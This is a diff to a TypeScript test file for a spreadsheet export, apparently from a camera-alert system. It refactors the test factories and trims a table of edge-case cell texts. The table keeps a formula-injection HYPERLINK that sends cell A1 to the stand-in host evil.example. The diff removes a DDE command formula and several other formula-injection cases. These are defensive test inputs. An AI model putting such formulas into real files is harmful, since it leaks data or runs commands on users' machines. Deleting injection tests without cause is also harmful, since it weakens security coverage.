@@ -6,6 +6,7 @@ import {
   createAlerts,
   createCamera,
   createFacility,
+  createPlace,
   createUser,
   createWorkspace,
 } from "../support/factories.js";
@@ -44,38 +45,22 @@ async function readByBoth(file: Buffer): Promise<Map<string, ExportedRow>[]> {
 /** Texts, and how they are shown if that differs. */
 const texts: [what: string, text: string, shown?: string][] = [
   ["a sum", "=1+1"],
-  ["a plus sign", "+1+1"],
-  ["a minus sign", "-1+1"],
-  ["an at sign", "@SUM(A1:A9)"],
   ["a link as a formula", '=HYPERLINK("https://evil.example/?x="&A1,"Open picture")'],
-  ["a command as a formula", "=cmd|' /C calc'!A0"],
-  ["a formula after a tab", "\t=1+1"],
-  ["a formula after a line break", "\n=1+1"],
-  ["a formula after an apostrophe", "'=1+1"],
   ["a number", "007"],
-  ["a number with an exponent", "1e5"],
   ["a boolean", "TRUE"],
   ["a date", "2026-11-20"],
-  ["an error", "#REF!"],
-  ["a link", "https://pictures.example/1.jpg"],
   ["markup", `<b title="x">'bold'</b> & &#65; ]]> <![CDATA[x]]>`],
   ["emoji", "🎥👷🏽‍♀️ 1️⃣"],
   ["right-to-left text with direction marks", "\u202eشاحنة\u202c \u200fעברית"],
-  ["composed and decomposed accents", "é e\u0301 ö"],
   ["leading and trailing spaces", "  two before, two after  "],
-  ["a single space", " "],
-  ["line breaks and a tab", "one\ntwo\n\nthree\tfour"],
   ["line breaks of other platforms", "one\r\ntwo\rthree\n\rfour", "one\ntwo\nthree\n\nfour"],
   [
     "control characters",
     "a\u0001b\u0008c\u000bd\u000ce\u001bf\u001fg",
     "a\ufffdb\ufffdc\ufffdd\ufffde\ufffdf\ufffdg",
   ],
-  ["the last control character", "a\u007fb", "a\ufffdb"],
   ["noncharacters", "a\ufffeb\uffffc", "a\ufffdb\ufffdc"],
   ["a byte order mark, a line separator and a next line", "a\ufeffb\u2028c\u0085d"],
-  ["what looks like a character escape", "_x0041_"],
-  ["what looks like an escaped character escape", "_x005F_x0041_"],
   ["overlapping character escapes", "_x0041_x000d_X0042_x0x0043_"],
   ["the maximum length of a cell", "x".repeat(32_767)],
   ["more than the maximum length of a cell", "x".repeat(40_000), "x".repeat(32_767)],
@@ -183,8 +168,7 @@ describe("a time whose local year no spreadsheet calendar supports does not corr
     ["the last one, at UTC+3", "Etc/GMT-3", "9999-12-31T23:59:59.998Z"],
     ["the first one, at UTC-3", "Etc/GMT+3", "0001-01-01T00:00:00.000Z"],
   ])("%s", async (_what, timeZoneId, createdAt) => {
-    const facilityId = await createFacility(gateway.prisma, { workspaceId, timeZoneId });
-    const cameraId = await createCamera(gateway.prisma, { workspaceId, facilityId });
+    const { facilityId, cameraId } = await createPlace(gateway.prisma, { workspaceId, timeZoneId });
     const site = { workspaceId, facilityId, cameraId };
     const ids = await createAlerts(gateway.prisma, [{ ...site, createdAt: new Date(createdAt) }, site]);
     const file = await exported(facilityId);
@@ -195,8 +179,7 @@ describe("a time whose local year no spreadsheet calendar supports does not corr
 
 it("a text that looks like an XML entity is that text", async () => {
   // exceljs would decode it twice.
-  const facilityId = await createFacility(gateway.prisma, { workspaceId, name: "&amp;&lt;b&gt;" });
-  const cameraId = await createCamera(gateway.prisma, { workspaceId, facilityId });
+  const { facilityId, cameraId } = await createPlace(gateway.prisma, { workspaceId, name: "&amp;&lt;b&gt;" });
   await createAlerts(gateway.prisma, [{ workspaceId, facilityId, cameraId }]);
   expect((await rowsOf(await exported(facilityId)))[1]?.[2]).toBe("&amp;&lt;b&gt;");
 });
